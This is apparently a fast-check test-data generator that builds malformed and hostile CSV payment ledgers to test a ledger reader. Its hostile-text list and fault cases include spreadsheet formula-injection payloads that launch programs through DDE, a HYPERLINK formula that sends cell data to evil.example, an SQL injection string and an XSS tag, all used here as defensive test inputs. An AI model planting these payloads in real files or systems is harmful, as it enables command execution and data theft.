/**
 * fast-check generators for hostile ledgers: good rows (every accepted spelling and amount
 * format, hostile text in free-text and unknown columns) mixed with bad rows (one fault each:
 * wrong types, formula injection, invalid UTF-8, control characters, over-long fields, broken
 * quoting, wrong field counts) and blank rows, in a random column order, delimiter, line end
 * and BOM. Each generated row knows what the reader must make of it.
 */
import fc from 'fast-check'
import type { Channel, LineType, Service, Status } from '../../contract/codes'

export const FACILITIES = ['ML-BKO-HDB', 'ML-SIK-HRS', 'FAC;WITH,DELIMS']

const CHANNEL_SPELLINGS: Array<[string, Channel]> = [
    ['CASH', 'CASH'], ['cash', 'CASH'], ['Espèces', 'CASH'], ['ESPECES', 'CASH'], [' liquide ', 'CASH'],
    ['OM', 'ORANGE_MONEY'], ['orange money', 'ORANGE_MONEY'], ['Orange_Money', 'ORANGE_MONEY'],
    ['moov', 'MOOV_MONEY'], ['Moov Money', 'MOOV_MONEY'], ['flooz', 'MOOV_MONEY'],
    ['sama', 'SAMA_MONEY'], ['SAMA MONEY', 'SAMA_MONEY'],
    ['Carte bancaire', 'CARD'], ['TPE', 'CARD'], ['visa', 'CARD'], ['gab', 'CARD'],
    ['autre', 'OTHER'], ['OTHER', 'OTHER'],
]
const SERVICE_SPELLINGS: Array<[string, Service]> = [
    ['consultation', 'CONSULTATION'], ['Consultations', 'CONSULTATION'],
    ['examens', 'EXAM'], ['Laboratoire', 'EXAM'], ['imagerie', 'EXAM'], ['RADIOLOGIE', 'EXAM'], ['EXAM', 'EXAM'],
    ['pharmacie', 'PHARMACY'], ['Médicaments', 'PHARMACY'],
    ['hospitalisation', 'HOSPITALISATION'],
    ['autres', 'OTHER'],
]
const TYPE_SPELLINGS: Array<[string, LineType]> = [['', 'PAYMENT'], ['PAYMENT', 'PAYMENT'], [' payment ', 'PAYMENT'], ['REFUND', 'REFUND'], ['refund', 'REFUND']]
const STATUS_SPELLINGS: Array<[string, Status]> = [
    ['', 'SUCCESS'], ['SUCCESS', 'SUCCESS'], ['success', 'SUCCESS'], ['PENDING', 'PENDING'], ['failed', 'FAILED'], ['Expired', 'EXPIRED'], ['CANCELLED', 'CANCELLED'], ['reversed', 'REVERSED'],
]

/** Text a spreadsheet would run, a shell would love, or a parser would choke on. */
export const HOSTILE_TEXT = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    '@SUM(1+1)*cmd|\' /C calc\'!A0',
    '+33 6 12 34 56 78',
    '-2+3+cmd|\' /C notepad\'!A0',
    '\t=1+1',
    '\r=1+1',
    'say "hi"; then, leave',
    'line one\nline two\r\nline three\rend',
    'nul\u0000bell\u0007esc\u001b[31mred\u007f',
    '\uFEFFbom inside',
    '‮reversed text‬',
    "'; DROP TABLE lines; --",
    '<script>alert(1)</script>',
]

export const hostileText = fc.oneof(
    { weight: 30, arbitrary: fc.constantFrom(...HOSTILE_TEXT) },
    { weight: 30, arbitrary: fc.string({ maxLength: 30 }) },
    { weight: 20, arbitrary: fc.string({ unit: 'binary', maxLength: 20 }) },
    { weight: 1, arbitrary: fc.integer({ min: 1_000, max: 150_000 }).map((n) => `=${'A'.repeat(n)}`) }
)

function group(n: number, sep: string): string {
    return String(n).replace(/\B(?=(\d{3})+(?!\d))/g, sep)
}

/** Every docs/contract.md §2 way of writing a whole amount. */
export const amountText = (v: number) =>
    fc.constantFrom(
        String(v),
        `  ${v} `,
        group(v, ' '),
        group(v, '\u00A0'),
        group(v, '\u202F'),
        `${v},00`,
        `${v}.0`,
        v >= 1000 ? group(v, '.') : String(v)
    )

export interface GoodLine {
    transactionId: string
    lineNo: number
    facilityCode: string
    channel: Channel
    service: Service
    amountXof: number
    type: LineType
    status: Status
    occurredAt: string
}

export type Cell = string | Buffer

export type Row =
    | { kind: 'good'; cells: Record<string, Cell>; line: GoodLine }
    | { kind: 'bad'; fault: string; cells: Record<string, Cell>; /** Raw serialisation tweaks. */ shape?: 'extra-field' | 'missing-field' | 'misplaced-quote' | 'unterminated-quote' }
    | { kind: 'blank'; text: 'empty' | 'delimiters' | 'spaces' }

export const COLUMNS = [
    'transaction_id', 'line_no', 'occurred_at', 'updated_at', 'facility_code', 'channel', 'service', 'amount_xof', 'type', 'status',
    'product_code', 'product_name', 'quantity', 'unit', 'payer_msisdn', 'patient_id', 'notes',
]

/** A transaction of 1–3 lines (one attempt: one facility, one channel), dated in September 2026, Bamako time. */
export const transaction = (id: string) =>
    fc
        .record({
            facility: fc.constantFrom(...FACILITIES),
            channel: fc.constantFrom(...CHANNEL_SPELLINGS),
            lines: fc.array(
                fc.record({
                    service: fc.constantFrom(...SERVICE_SPELLINGS),
                    amount: fc.integer({ min: 0, max: 20_000_000 }),
                    type: fc.constantFrom(...TYPE_SPELLINGS),
                    status: fc.constantFrom(...STATUS_SPELLINGS),
                    day: fc.integer({ min: 2, max: 27 }),
                    minute: fc.integer({ min: 0, max: 24 * 60 - 1 }),
                    productName: fc.option(hostileText, { nil: '' }),
                    notes: hostileText,
                    msisdn: fc.constantFrom('+223 76 12 34 56', ''),
                    quantity: fc.option(fc.integer({ min: 1, max: 500 }).map(String), { nil: '' }),
                }),
                { minLength: 1, maxLength: 3 }
            ),
        })
        .chain((t) =>
            fc.tuple(...t.lines.map((l) => amountText(l.amount))).map((amounts) =>
                t.lines.map((l, i): Row => {
                    const day = String(l.day).padStart(2, '0')
                    const hh = String(Math.floor(l.minute / 60)).padStart(2, '0')
                    const mm = String(l.minute % 60).padStart(2, '0')
                    return {
                        kind: 'good',
                        cells: {
                            transaction_id: id,
                            line_no: String(i + 1),
                            occurred_at: `2026-09-${day} ${hh}:${mm}`,
                            updated_at: '',
                            facility_code: t.facility,
                            channel: t.channel[0],
                            service: l.service[0],
                            amount_xof: amounts[i],
                            type: l.type[0],
                            status: l.status[0],
                            product_code: l.productName ? 'PROD1' : '',
                            product_name: l.productName,
                            quantity: l.quantity,
                            unit: '',
                            payer_msisdn: l.msisdn,
                            patient_id: 'P-HD000001',
                            notes: l.notes,
                        },
                        line: {
                            transactionId: id,
                            lineNo: i + 1,
                            facilityCode: t.facility,
                            channel: t.channel[1],
                            service: l.service[1],
                            amountXof: l.amount,
                            type: l.type[1],
                            status: l.status[1],
                            occurredAt: `2026-09-${day}T${hh}:${mm}:00.000Z`,
                        },
                    }
                })
            )
        )

const INVALID_UTF8 = [Buffer.from([0xff]), Buffer.from([0xc3, 0x28]), Buffer.from([0x80]), Buffer.from([0xed, 0xa0, 0x80]), Buffer.from([0xe2, 0x82])]

/** One fault per bad row; `huge` (over the 1 MiB record limit) only when allowed. */
export const FAULTS = [
    'amount', 'channel', 'service', 'occurred_at', 'type', 'status', 'quantity', 'transaction_id', 'facility_code', 'line_no',
    'utf8', 'extra-field', 'missing-field', 'misplaced-quote', 'unterminated-quote', 'control-in-enum',
] as const

export const badRow = (id: string, allowHuge: boolean) =>
    fc
        .tuple(transaction(id), fc.constantFrom(...FAULTS, ...(allowHuge ? (['huge'] as const) : [])), fc.nat(), fc.constantFrom(...COLUMNS), fc.constantFrom(...INVALID_UTF8))
        .map(([rows, fault, n, column, bytes]): Row => {
            const base = rows[0] as Extract<Row, { kind: 'good' }>
            const cells: Record<string, Cell> = { ...base.cells, line_no: '1' }
            const pick = <T>(xs: readonly T[]) => xs[n % xs.length]
            let shape: Extract<Row, { kind: 'bad' }>['shape']
            switch (fault) {
                case 'amount':
                    cells.amount_xof = pick(['-500', '12,5', 'abc', '=1+2', '1e3', '０１２', '99999999999999999999', '(500)', '0x10', '12 50', '', '   '])
                    break
                case 'channel':
                case 'service':
                    cells[fault] = pick(["=cmd|' /C calc'!A0", '@SUM(A1)', '+33 6', 'Wave', '=OM', 'carte\u00a0bleue', '¤'])
                    break
                case 'control-in-enum':
                    cells[pick(['channel', 'service', 'type', 'status'])] = pick(['OM\u0000', '\u0007cash', 'REFUND\u001b'])
                    break
                case 'occurred_at':
                    cells.occurred_at = pick(['2026-02-30', '2026-13-01 10:00', 'hier', '=NOW()', '2026-09-10T25:10', '10/09/2026', ''])
                    break
                case 'type':
                    cells.type = pick(['GIFT', '=TYPE', '@x', 'PAYMENTS'])
                    break
                case 'status':
                    cells.status = pick(['OKAY', '=SUCCESS', '@FAILED', 'DONE'])
                    break
                case 'quantity':
                    cells.quantity = pick(['-2', '0', 'abc', '=2*3', '1e309'])
                    break
                case 'transaction_id':
                    cells.transaction_id = pick(['', '   '])
                    break
                case 'facility_code':
                    cells.facility_code = ''
                    break
                case 'line_no':
                    cells.line_no = pick(['0', '-1', '1.5', 'x', '=1'])
                    break
                case 'utf8':
                    cells[column] = Buffer.concat([Buffer.from('ab'), bytes, Buffer.from('cd')])
                    break
                case 'huge':
                    cells[column] = 'Z'.repeat((1 << 20) + 10 + (n % 1000))
                    break
                default:
                    shape = fault
            }
            return { kind: 'bad', fault, cells, shape }
        })

export interface Dialect {
    delimiter: ',' | ';' | '\t'
    eol: '\n' | '\r\n' | '\r'
    bom: boolean
    /** Column order and the header's spelling of each column. */
    columns: Array<{ name: string; header: string }>
}

export const dialect: fc.Arbitrary<Dialect> = fc.record({
    delimiter: fc.constantFrom(',' as const, ';' as const, '\t' as const),
    eol: fc.constantFrom('\n' as const, '\r\n' as const, '\r' as const),
    bom: fc.boolean(),
    columns: fc.shuffledSubarray(COLUMNS, { minLength: COLUMNS.length, maxLength: COLUMNS.length }).chain((order) =>
        fc.tuple(...order.map((c) => fc.constantFrom(c, c.toUpperCase(), ` ${c.replace(/_/g, ' ')} `, c.replace(/_/g, '-')))).map((headers) => order.map((name, i) => ({ name, header: headers[i] })))
    ),
})

function cellBytes(cell: Cell, d: Dialect): Buffer {
    const b = typeof cell === 'string' ? Buffer.from(cell, 'utf8') : cell
    const special = [d.delimiter.charCodeAt(0), 0x22, 0x0d, 0x0a]
    if (!b.some((x) => special.includes(x))) return b
    return Buffer.concat([Buffer.from('"'), Buffer.from(b.toString('latin1').replace(/"/g, '""'), 'latin1'), Buffer.from('"')])
}

/** The file, and per row its first physical line (1-based, the header is line 1). */
export function serialise(rows: Row[], d: Dialect): { bytes: Buffer; startLines: number[] } {
    const parts: Buffer[] = []
    if (d.bom) parts.push(Buffer.from([0xef, 0xbb, 0xbf]))
    parts.push(Buffer.from(d.columns.map((c) => c.header).join(d.delimiter) + d.eol, 'utf8'))
    let line = 2
    const startLines: number[] = []
    const eol = Buffer.from(d.eol)
    for (const row of rows) {
        startLines.push(line)
        let bytes: Buffer
        if (row.kind === 'blank') {
            bytes = Buffer.from(row.text === 'empty' ? '' : row.text === 'spaces' ? '   ' : d.delimiter.repeat(d.columns.length - 1))
        } else {
            const cells = d.columns.map((c) => cellBytes(row.cells[c.name] ?? '', d))
            if (row.kind === 'bad' && row.shape) {
                const pn = d.columns.findIndex((c) => c.name === 'product_name')
                if (row.shape === 'extra-field') cells.push(Buffer.from('x'))
                if (row.shape === 'missing-field') cells.pop()
                if (row.shape === 'misplaced-quote') cells[pn] = Buffer.from('"closed"then text')
                if (row.shape === 'unterminated-quote') cells[pn] = Buffer.from('"never closed')
            }
            bytes = Buffer.concat(cells.flatMap((c, i) => (i ? [Buffer.from(d.delimiter), c] : [c])))
        }
        parts.push(bytes, eol)
        // Physical lines as the reader counts them: CRLF, CR and LF each end one.
        line += 1 + (bytes.toString('latin1').match(/\r\n|\r|\n/g)?.length ?? 0)
    }
    return { bytes: Buffer.concat(parts), startLines }
}
